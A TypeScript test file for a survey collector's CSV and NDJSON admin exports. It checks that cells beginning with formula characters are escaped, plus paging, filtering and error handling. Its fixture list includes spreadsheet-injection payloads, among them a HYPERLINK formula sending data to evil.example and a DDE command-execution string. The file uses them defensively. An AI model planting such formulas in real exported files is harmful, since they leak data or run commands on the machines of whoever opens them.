import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Store } from '../../src/app';
import { safeCell } from '../../src/transfer/csv-cell';
import { stretchesOf } from '../../src/transfer/pages';
import { SHOP, type TestCollector, testCollector, testStore } from '../support/collector';
import { blob, listed, PNG } from '../support/pictures';
import { ces, newId, record, words } from '../support/records';
import { authorized, exportOf } from '../support/transfer';

let store: Store;
let collector: TestCollector;
beforeAll(async () => {
  store = await testStore();
  collector = testCollector(store, { projects: { shop: { origins: [SHOP] }, sheet: { origins: ['*'] } } });
});
afterAll(() => store.close());

const rowsOf = async (query = '', project = 'sheet') =>
  parse(await exportOf(collector, `&format=csv${query}`, project), { columns: true, bom: true }) as Record<
    string,
    string
  >[];

/** What begins a formula somewhere: OWASP's list, the full-width forms that Excel takes too, and what is skipped before. */
const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '−1',
  '﹢1',
  ' =1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u00A0=1+1',
  '\tx',
];

describe('security 7: a cell of the CSV export is never a formula', () => {
  it.each(FORMULAS)('%j has an apostrophe before it', (text) => {
    expect(safeCell(text)).toBe(`'${text}`);
  });

  it.each(['', 'a=b', '1-2', 'mail@example.com', '안녕', '"=1"', "'=1", '…=1'])('%j stays as it is', (text) => {
    expect(safeCell(text)).toBe(text);
  });

  it('whatever the text', () => {
    const unit = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      '＝',
      '＠',
      ' ',
      '"',
      ',',
      ';',
      'a',
      '\u200B',
      '0',
    );
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 8 }), (text) => {
        const cell = safeCell(text);
        expect(cell.trim().normalize('NFKC')).not.toMatch(/^[\p{Cf}\s]*[=+\-@]/u);
        expect(cell.replace(/^'/, '')).toBe(text.replace(/^'/, ''));
      }),
    );
  });

  it('in the file itself: in answers, contacts, traits and the names of questions; and nothing leaves its cell', async () => {
    await collector.send(
      FORMULAS.map((text) =>
        record({
          survey: { id: text, version: text },
          answers: [words(text), { ...words(`",${text}`), question: text }],
          respondent: { userKey: text, contact: { email: text, name: text, wantsReply: false } },
          context: { ...record().context, title: text, release: text },
        }),
      ).slice(0, 20),
      'sheet',
    );
    const csv = await exportOf(collector, '&format=csv', 'sheet');
    const cells: string[][] = parse(csv);
    expect(cells).toHaveLength(FORMULAS.slice(0, 20).length + 1);
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/);
    expect(cells.flat().filter((cell) => cell.startsWith("'")).length).toBeGreaterThan(FORMULAS.length * 5);
    // RFC 4180: read bare, a line that ends within quotes is no end.
    expect(csv.endsWith('\r\n')).toBe(true);
  });
});

describe('the CSV export', () => {
  it('has fixed columns, one for each question of each survey, and numbers as numbers', async () => {
    const one = record({
      survey: { id: 'orders', version: '3' },
      answers: [
        ces(2),
        words('Zwei\r\nZeilen, "beide"'),
        { question: 'which', type: 'choice', value: ['a', 'b'], prompt: '' },
        { question: 'grid', type: 'matrix', value: { row: 'col', second: 'x' }, prompt: '' },
        { question: 'much', type: 'number', value: -3.5, prompt: '' },
      ],
      data: { plan: 'pro' },
    });
    await collector.send([one], 'sheet');
    const row = (await rowsOf()).find(({ id }) => id === one.id)!;
    expect(row).toMatchObject({
      kind: 'submission',
      survey: 'orders',
      survey_version: '3',
      'answer orders.ces': '2',
      'answer orders.why': 'Zwei\r\nZeilen, "beide"',
      'answer orders.which': 'a; b',
      'answer orders.grid': 'row: col; second: x',
      'answer orders.much': '-3.5',
      data: '{"plan":"pro"}',
      test: 'false',
      other_answers: '',
    });
    expect(Object.keys(row).slice(0, 8)).toEqual(
      'id received_at created_at kind status test survey survey_version'.split(' '),
    );
    // without quotes: a spreadsheet counts with it
    expect(await exportOf(collector, '&format=csv', 'sheet')).toContain(',-3.5');
  });

  it('begins with a byte order mark only where it is asked for', async () => {
    expect((await exportOf(collector, '&format=csv')).charCodeAt(0)).not.toBe(0xfeff);
    const response = await collector.app.request('/v1/admin/export?project=shop&format=csv&bom=1', {
      headers: authorized,
    });
    expect([...new Uint8Array(await response.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});

describe('the NDJSON export', () => {
  it('is in the order of ids, over many pages, with the bodies as they are stored and what has arrived of attachments', async () => {
    const many = Array.from({ length: 520 }, () => record());
    const picture = record({ attachments: [listed('shot', PNG)] });
    for (let at = 0; at < many.length; at += 20) await collector.send(many.slice(at, at + 20));
    await collector.send([picture]);
    await collector.attach({ record: picture.id, attachment: 'shot', file: blob(PNG) });
    const text = await exportOf(collector);
    const lines = text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    const expected = [...many, picture].sort((a, b) => (a.id < b.id ? -1 : 1));
    expect(lines.map(({ record: one }) => one)).toEqual(expected);
    expect(lines.find(({ record: one }) => one.id === picture.id).attachments).toMatchObject([
      { id: 'shot', type: 'image/png', bytes: PNG.length },
    ]);
    expect(text).not.toContain(Buffer.from(PNG).toString('base64').slice(0, 20));
  });

  it('says how many there are, and gives only what is asked for: by kind and by the day of arrival', async () => {
    await store.insert(record({ id: newId(), kind: 'impression' }), {
      project: 'sheet',
      receivedAtMs: Date.parse('2020-02-29T23:59:59.999Z'),
      skewMs: 0,
    });
    const ask = async (query: string) => (await exportOf(collector, query, 'sheet')).split('\n').length - 1;
    expect(await ask('&kind=impression')).toBe(1);
    expect(await ask('&from=2020-02-29&to=2020-03-01')).toBe(1);
    expect(await ask('&from=2020-03-01&to=2020-03-02')).toBe(0);
    expect(await ask('&to=2020-02-29')).toBe(0);
    expect(await ask('&from=2020-02-29T23:59:59.999Z&to=2020-03-01T00:00Z&kind=submission')).toBe(0);
    const response = await collector.app.request('/v1/admin/export?project=sheet&kind=impression', {
      headers: authorized,
    });
    expect(response.headers.get('Earshot-Total-Estimate')).toBe('1');
  });

  it('a client that goes away stops it', async () => {
    let asked = 0;
    const counting = {
      ...store,
      database: {
        ...store.database,
        query: ((sql, params) => {
          // The rest is counted in the background.
          if (!/earshot_(pending|settings)/.test(sql)) asked++;
          return store.database.query(sql, params);
        }) as Store['database']['query'],
      },
    };
    const slow = testCollector(counting);
    const response = await slow.app.request('/v1/admin/export?project=shop', { headers: authorized });
    const reader = response.body!.getReader();
    await reader.read();
    await reader.cancel();
    const then = asked;
    await new Promise((resolve) => setImmediate(resolve));
    expect(asked).toBe(then);
    // there would have been more: 521 records are three pages of two statements each
    expect(then).toBeLessThan(7);
  });

  it('no statement looks at more rows than a page has, however few of them are asked for', async () => {
    const stretches: number[] = [];
    for await (const { looked } of stretchesOf(store.database.query, 'shop', 100)) stretches.push(looked);
    expect(stretches).toEqual([100, 100, 100, 100, 100, 21]);
  });

  it('a database that fails is answered 503; one that fails later cuts the connection, and the log names nobody', async () => {
    let left = 0;
    const failing = {
      ...store,
      database: {
        ...store.database,
        query: (async (sql, params) => {
          if (left-- <= 0) throw Object.assign(new Error('a visitor said this'), { code: '57P01' });
          return store.database.query(sql, params);
        }) as Store['database']['query'],
      },
    };
    const broken = testCollector(failing);
    const get = () => broken.app.request('/v1/admin/export?project=shop', { headers: authorized });
    expect((await get()).status).toBe(503);
    left = 5;
    const response = await get();
    expect(response.status).toBe(200);
    await expect(response.text()).rejects.toThrow();
    expect(broken.logged.at(-1)).toBe('export: project "shop": broken off: 57P01');
    expect(broken.logged.join('\n')).not.toContain('a visitor said this');
  });

  it.each([
    ['', 'project'],
    ['?project=a%00b', 'project'],
    ['?project=shop&format=xml', 'format'],
    ['?project=shop&from=yesterday', 'from'],
    ['?project=shop&to=2026-02-30', 'to'],
    ['?project=shop&to=0000-01-01', 'to'],
    ['?project=shop&kind=all', 'kind'],
  ])('%s is refused by its name, and nothing else than the admin token opens it', async (query, named) => {
    const answer = await collector.app.request(`/v1/admin/export${query}`, { headers: authorized });
    expect(answer.status).toBe(400);
    expect(await answer.text()).toContain(named);
    expect((await collector.app.request('/v1/admin/export?project=shop')).status).toBe(401);
  });
});
